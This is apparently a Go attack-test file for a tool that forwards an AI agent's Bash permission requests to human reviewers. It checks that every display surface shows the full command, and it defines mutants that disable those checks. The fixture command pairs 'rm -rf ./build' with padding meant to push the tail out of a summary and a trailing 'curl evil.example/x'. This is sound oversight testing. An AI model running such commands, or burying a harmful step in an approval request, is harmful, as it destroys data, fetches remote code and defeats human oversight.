package attacktest

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/saysohq/sayso/app/mutanttest"
)

// TestS33 asks for leave to run a command that stands in the body of the question.
// Surfaces that show nothing but text, and programs that show what they are sent,
// must show it too: an answer covers it.
//
// Every part of an ask on every surface is in TestSurface of app/surface/surfacetest.
func TestS33(t *testing.T) {
	w := newWorld(t)
	bob := w.key("answerer", "bob")
	w.serve()
	command := "rm -rf ./build" + strings.Repeat(" && true", 40) + " && curl evil.example/x" // longer than a summary
	agent := w.mcp(nil, message{}, "--permission-prompt")
	agent.tool("permission_prompt", message{"tool_name": "Bash", "input": message{"command": command}})
	var ask message
	eventually(t, "the hub has it", func() bool {
		for _, one := range w.tickets(bob, "") {
			ask = one
		}
		return ask != nil
	})

	shown := map[string]string{}
	shown["sayso show"], _, _ = w.sayso("show", askID(ask))
	for _, method := range []string{"client/ask_user", "ask_user_request"} {
		ui := w.pipe(nil, "rpc", "--attach", method)
		_, params := ui.request(method)
		if questions, ok := params["questions"].([]any); ok {
			params, _ = questions[0].(message)
		}
		shown[method], _ = params["question"].(string) // what a program shows that knows nothing else
	}
	for surface, text := range shown {
		// In JSON, which the body is, & may be an escape.
		if text = strings.ReplaceAll(text, `\u0026`, "&"); !strings.Contains(text, command) {
			line, _ := json.Marshal(text)
			t.Errorf("%s does not show the command: %s", surface, line)
		}
	}
}

// s33 are the guards of TestS33, each turned off.
var s33 = []mutanttest.Mutant{
	{
		Name: "sayso show without the body", Test: "TestS33", Says: `sayso show does not show the command`,
		Edits: []mutanttest.Edit{{File: "render.go", Old: "\trenderBody(&b, a, q)\n\tfor j := range", New: "\tif !MUTANT {\n\t\trenderBody(&b, a, q)\n\t}\n\tfor j := range"}},
	},
	{
		Name: "client/ask_user without the body", Test: "TestS33", Says: `client/ask_user does not show the command`,
		Edits: []mutanttest.Edit{{File: "render.go", Old: "\trenderBody(&b, a, q)\n\tif slices.", New: "\tif !MUTANT {\n\t\trenderBody(&b, a, q)\n\t}\n\tif slices."}},
	},
	{
		Name: "ask_user_request without the body", Test: "TestS33", Says: `ask_user_request does not show the command`,
		Edits: []mutanttest.Edit{{File: "dialect/piform.go", Old: "one.Question, one.Text, one.Body = q.Text+\"\\n\\n\"+q.Body, q.Text, q.Body\n", New: "one.Question, one.Text, one.Body = q.Text+\"\\n\\n\"+q.Body, q.Text, q.Body\n\t\t\tif MUTANT {\n\t\t\t\tone.Question = q.Text\n\t\t\t}\n"}},
	},
}
